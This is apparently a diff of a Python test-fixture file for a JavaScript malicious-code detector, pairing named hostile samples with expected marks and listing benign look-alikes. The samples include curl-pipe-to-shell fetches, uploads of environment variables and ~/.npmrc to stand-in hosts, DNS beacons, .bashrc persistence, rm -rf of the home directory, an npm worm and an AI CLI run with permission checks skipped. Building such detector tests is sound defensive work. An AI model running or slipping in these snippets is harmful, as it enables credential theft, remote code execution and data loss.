@@ -37,8 +37,10 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"runs-decoded", "evaluates", "executes"},
     ),
     "decoded in a helper": (
-        f"const p = '{b64(EXEC)}';\nconst d = (s) => Buffer.from(s, 'base64').toString('utf8');\n"
-        "new Function(d(p))();",
+        (
+            f"const p = '{b64(EXEC)}';\nconst d = (s) => Buffer.from(s, 'base64').toString();\n"
+            "new Function(d(p))();"
+        ),
         {"runs-decoded", "executes"},
     ),
     "names put together": (
@@ -46,7 +48,7 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"computed-name", "runs-decoded", "evaluates"},
     ),
     "module put together": (
-        "const c = require('child_' + 'process'); c['ex' + 'ec']('curl http://203.0.114.9/a | sh');",
+        "const c = require('child_' + 'process'); c['ex' + 'ec']('curl http://203.0.114.9 | sh');",
         {"computed-name", "executes", "fetches-and-runs", "raw-address"},
     ),
     "constructor of a constructor": (
@@ -58,9 +60,11 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"runs-decoded", "executes"},
     ),
     "codes of an address": (
-        "var s = document.createElement('script');"
-        f"s.src = String.fromCharCode.apply(null, [{codes('https://cdn.bad.example/a.js')}]);"
-        "document.head.appendChild(s);",
+        (
+            "var s = document.createElement('script');"
+            f"s.src = String.fromCharCode.apply(null, [{codes('https://cdn.bad.example/a.js')}]);"
+            "document.head.appendChild(s);"
+        ),
         {"computed-name", "runs-decoded"},
     ),
     "escapes": (f"eval('{hexed(EXEC)}')", {"evaluates", "executes", "odd-host"}),
@@ -73,8 +77,10 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"runs-decoded", "executes"},
     ),
     "unseen characters": (
-        f"const k = `{unseen(EXEC)}`; eval([...k].map(c => String.fromCodePoint("
-        "c.codePointAt(0) - 0xFE00)).join(''))",
+        (
+            f"const k = `{unseen(EXEC)}`; eval([...k].map(c => String.fromCodePoint("
+            "c.codePointAt(0) - 0xFE00)).join(''))"
+        ),
         {"hidden-characters", "runs-decoded"},
     ),
     "pushed aside": (
@@ -82,54 +88,74 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"pushed-aside", "runs-decoded"},
     ),
     "fetch, then a shell": (
-        "const { exec: run } = require('node:child_process');\n"
-        "run(`curl -fsSL https://bad.example/${process.arch} | bash`);",
+        (
+            "const { exec: run } = require('node:child_process');\n"
+            "run(`curl -fsSL https://bad.example/${process.arch} | bash`);"
+        ),
         {"executes", "fetches-and-runs", "connects"},
     ),
     "PowerShell": (
-        "require('child_process').spawn('powershell.exe', ['-w', 'hidden', '-enc', "
-        f"'{b64(EXEC)}'])",
+        (
+            "require('child_process').spawn('powershell.exe', ['-w', 'hidden', '-enc', "
+            f"'{b64(EXEC)}'])"
+        ),
         {"executes", "runs-decoded", "hides-process"},
     ),
     "the environment, sent": (
-        "const https = require('https');\nconst body = JSON.stringify(process.env);\n"
-        "const r = https.request({ host: 'x.oast.fun', method: 'POST' });\nr.write(body);\nr.end();",
+        (
+            "const https = require('https');\nconst body = JSON.stringify(process.env);\n"
+            "const r = https.request({ host: 'x.oast.fun' });\nr.write(body);\nr.end();"
+        ),
         {"connects", "reads-environment", "sends-secret", "odd-host"},
     ),
     "credentials, sent": (
-        "import fs from 'fs'; import os from 'os'; import axios from 'axios';\n"
-        "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
-        "axios.post('https://collect.bad.example', { t });",
+        (
+            "import fs from 'fs'; import os from 'os'; import axios from 'axios';\n"
+            "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
+            "axios.post('https://collect.bad.example', { t });"
+        ),
         {"reads-secret", "connects", "sends-secret"},
     ),
     "a beacon": (
-        "const os = require('os'), dns = require('dns');\n"
-        "dns.lookup(os.hostname() + '.' + os.userInfo().username + '.x.oastify.com', () => {});",
+        (
+            "const os = require('os'), dns = require('dns');\n"
+            "dns.lookup(os.hostname() + '.' + os.userInfo().username + '.x.oastify.com', () => {});"
+        ),
         {"identifies", "connects", "odd-host"},
     ),
     "a webhook": (
-        "fetch('https://discord.com/api/webhooks/123456789/abcdefghijkl', "
-        "{ method: 'POST', body: JSON.stringify({ content: require('os').hostname() }) })",
+        (
+            "fetch('https://discord.com/api/webhooks/123456789/abcdefghijkl', "
+            "{ method: 'POST', body: JSON.stringify({ content: require('os').hostname() }) })"
+        ),
         {"odd-host", "connects"},
     ),
     "a profile": (
-        "const fs = require('fs'), os = require('os'), path = require('path');\n"
-        "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'node ~/.x.js &');",
+        (
+            "const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'node ~/.x.js &');"
+        ),
         {"writes-outside"},
     ),
     "a workflow": (
-        "const fs = require('fs'); const cp = require('child_process');\n"
-        "fs.writeFileSync('.github/workflows/w.yml', y); cp.execSync('git push');",
+        (
+            "const fs = require('fs'); const cp = require('child_process');\n"
+            "fs.writeFileSync('.github/workflows/w.yml', y); cp.execSync('git push');"
+        ),
         {"writes-outside", "executes"},
     ),
     "no home left": (
-        "require('child_process').execSync('rm -rf ~/ || true', { stdio: 'ignore' });"
-        "require('os').homedir()",
+        (
+            "require('child_process').execSync('rm -rf ~/ || true', { stdio: 'ignore' });"
+            "require('os').homedir()"
+        ),
         {"executes", "deletes-home"},
     ),
     "a silent child": (
-        "const { spawn } = require('child_process'); const https = require('https');\n"
-        "spawn('node', ['a.js'], { detached: true, stdio: 'ignore' }).unref();",
+        (
+            "const { spawn } = require('child_process'); const https = require('https');\n"
+            "spawn('node', ['a.js'], { detached: true, stdio: 'ignore' }).unref();"
+        ),
         {"executes", "hides-process"},
     ),
     "a miner": (
@@ -141,12 +167,14 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"executes", "scans-secrets"},
     ),
     "an assistant": (
-        "require('child_process').execSync('claude --dangerously-skip-permissions -p \"find keys\"')",
+        "require('child_process').execSync('claude --dangerously-skip-permissions -p find')",
         {"executes", "assistant"},
     ),
     "a worm": (
-        "const cp = require('child_process'); fetch('https://h.example/-/npm/v1/tokens');\n"
-        "cp.execSync('npm publish --access public');",
+        (
+            "const cp = require('child_process'); fetch('https://h.example/-/npm/v1/tokens');\n"
+            "cp.execSync('npm publish --access public');"
+        ),
         {"publishes", "executes", "connects"},
     ),
     "a wallet": (
@@ -157,9 +185,11 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"wallet"},
     ),
     "obfuscator's grammar": (
-        "(function(_0x1a2b3c,_0x4d5e6f){const _0x112233=_0x5a5a5a;while(!![]){try{"
-        "_0x1a2b3c['push'](_0x1a2b3c['shift']());}catch(_0x998877){}}}(_0x777777,0x1));"
-        "function _0x5a5a5a(_0x10){return _0x777777()[_0x10];}const a=_0x5a5a5a(0x1);",
+        (
+            "(function(_0x1a2b3c,_0x4d5e6f){const _0x112233=_0x5a5a5a;while(!![]){try{"
+            "_0x1a2b3c['push'](_0x1a2b3c['shift']());}catch(_0x998877){}}}(_0x777777,0x1));"
+            "function _0x5a5a5a(_0x10){return _0x777777()[_0x10];}const a=_0x5a5a5a(0x1);"
+        ),
         {"obfuscated"},
     ),
     "brackets alone": (f"{'[][(![]+[])[+[]]+(!![]+[])[+!+[]]]' * 12}()", {"obfuscated"}),
@@ -172,8 +202,10 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"computed-name", "connects", "odd-host"},
     ),
     "code from a server": (
-        "const axios = require('axios');\n"
-        "(async () => { const r = await axios.get(url); new Function('require', r.data)(require); })();",
+        (
+            "const axios = require('axios');\n"
+            "(async () => { const r = await axios.get(u); new Function('require', r.data)(0); })();"
+        ),
         {"fetches-and-runs", "connects", "evaluates"},
     ),
     "code from a server, at once": (
@@ -181,18 +213,20 @@ JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
         {"fetches-and-runs"},
     ),
     "process by its other door": (
-        f"process.mainModule.require('child_process').execSync(Buffer.from('{b64('id; uname -a')}',"
-        "'base64').toString()); process['env']",
+        (
+            f"process.mainModule.require('child_process').execSync(Buffer.from('{b64('id')}',"
+            "'base64').toString()); process['env']"
+        ),
         {"executes", "runs-decoded"},
     ),
 }
 """What a twin does: its code, and marks that `content` must show."""
 
 CLEAN: dict[str, str] = {
-    "words in comments": "// eval(atob('aGVsbG8gd29ybGQ='))\n/* curl http://x | sh */\nmodule.exports = 1;",
-    "words in texts": "const keywords = ['eval', 'Function', 'base64'];\nthrow Error('never eval(atob(x))');",
-    "exec of a pattern": "const cp = require('child_process');\nconst m = /a(b)/.exec(s); re.exec(t);",
-    "a template's compiler": "return new Function('data', 'with (data) { return `' + text + '` }');",
+    "words in comments": "// eval(atob('aGVsbG8gd29ybGQ='))\n/* curl http://x | sh */\nf(1);",
+    "words in texts": "const w = ['eval', 'Function', 'base64'];\nthrow E('eval(atob(x))');",
+    "exec of a pattern": "const cp = require('child_process');\n/a(b)/.exec(s); re.exec(t);",
+    "a template's compiler": "return new Function('data', 'with (data) { return `' + t + '` }');",
     "text to base64": "const out = Buffer.from(JSON.stringify(x)).toString('base64'); eval('1');",
     "a child's environment": "const { spawn } = require('child_process');\n"
     "spawn('tsc', [], { env: { ...process.env, CI: '1' }, stdio: 'inherit' });",
